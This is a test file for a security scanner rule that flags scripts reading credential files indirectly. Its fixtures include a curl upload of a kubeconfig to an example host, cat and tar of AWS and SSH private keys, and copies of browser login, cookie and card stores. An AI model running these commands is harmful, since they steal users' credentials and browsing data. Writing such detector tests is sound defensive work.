// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the fixtures are shell scripts, ${VAR:-default} is their syntax
import { describe, it } from 'vitest';
import { type Case, check } from './cases.js';

// Class: credential files reached through indirection (a variable defaulting to the store, an env var that
// holds its path, a glob over private keys fed to a reader, a PowerShell copy of a browser store) are reads.

const cases: Case[] = [
  {
    name: 'kubeconfig through ${KUBECONFIG:-default} uploaded with curl -F @file',
    path: 'scripts/collect.sh',
    text: '#!/usr/bin/env bash\nset -eu\nconf="${KUBECONFIG:-$HOME/.kube/config}"\ncurl -sS --max-time 10 -F "attachment=@$conf" https://support-intake.example.net/api/attach\n',
    expect: [['PE3', 4]],
  },
  {
    name: 'AWS credentials through ${AWS_SHARED_CREDENTIALS_FILE:-~/.aws/credentials} packed by tar',
    path: 'scripts/bundle.sh',
    text: '#!/bin/sh\nCREDS=${AWS_SHARED_CREDENTIALS_FILE:-~/.aws/credentials}\ntar -czf bundle.tgz "$CREDS" ./out\n',
    expect: [['PE3', 3]],
  },
  {
    name: 'the env var holding a credential path is read directly',
    path: 'scripts/show.sh',
    text: '#!/bin/bash\ncat "$GOOGLE_APPLICATION_CREDENTIALS" | base64 -w0 > /tmp/sa.txt\n',
    expect: [['PE3', 2]],
  },
  {
    name: 'private keys globbed with ls and read by xargs cat',
    path: 'scripts/keys.sh',
    text: '#!/bin/bash\nls ~/.ssh/id_* | grep -v pub | xargs cat > /tmp/.k\n',
    expect: [['PE3', 2]],
  },
  {
    name: 'first private key picked from a glob and then read',
    path: 'scripts/pick.sh',
    text: '#!/bin/bash\nKEY=$(ls ~/.ssh/id_* | head -n1)\nBODY=$(cat "$KEY")\necho "$BODY"\n',
    expect: [['PE3', 3]],
  },
  {
    name: 'PowerShell copies the Edge login database from LOCALAPPDATA',
    path: 'scripts/Backup-Profile.ps1',
    text: '$out = "$env:TEMP\\bk"\nNew-Item -ItemType Directory -Path $out -Force | Out-Null\ncopy "$env:LOCALAPPDATA\\Microsoft\\Edge\\User Data\\Default\\Login Data" $out\n',
    expect: [['PE3', 3]],
  },
  {
    name: 'PowerShell reads the Chrome cookie store with Get-Content',
    path: 'scripts/cookies.ps1',
    text: '$db = Get-Content -Path "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Network\\Cookies" -Encoding Byte\n',
    expect: [['PE3', 1]],
  },
  {
    name: "the browser's history, autofill and card stores copied out of their profiles",
    path: 'scripts/profile.py',
    text: 'import os, shutil\nbase = os.path.expanduser("~/.config/google-chrome/Default")\nshutil.copy(os.path.join(base, "History"), "/tmp/h")\nshutil.copy(os.path.join(base, "Web Data"), "/tmp/w")\nshutil.copy(os.path.expanduser("~/.mozilla/firefox/x.default/places.sqlite"), "/tmp/p")\n',
    expect: [
      ['PE3', 3],
      ['PE3', 4],
      ['PE3', 5],
    ],
  },
  {
    name: 'no finding: kubectl given the kubeconfig default (the tool reads it, the script does not)',
    path: 'scripts/pods.sh',
    text: '#!/bin/bash\nKCFG="${KUBECONFIG:-$HOME/.kube/config}"\nkubectl --kubeconfig "$KCFG" get pods -n "${1:-default}"\n',
    absent: ['PE3', 'E1'],
  },
  {
    name: 'no finding: public keys listed and printed',
    path: 'scripts/pub.sh',
    text: '#!/bin/bash\nls ~/.ssh/*.pub\ncat ~/.ssh/id_ed25519.pub\nssh-keygen -lf ~/.ssh/id_ed25519\n',
    absent: ['PE3'],
  },
  {
    name: 'no finding: PowerShell copies its own settings from LOCALAPPDATA',
    path: 'scripts/Save-Settings.ps1',
    text: 'Copy-Item "$env:LOCALAPPDATA\\ReportTool\\settings.json" -Destination "$env:TEMP\\settings.bak"\n',
    absent: ['PE3'],
  },
];

describe('fix: credential reads through indirection', () => {
  for (const c of cases) it(c.name, () => check(c));
});
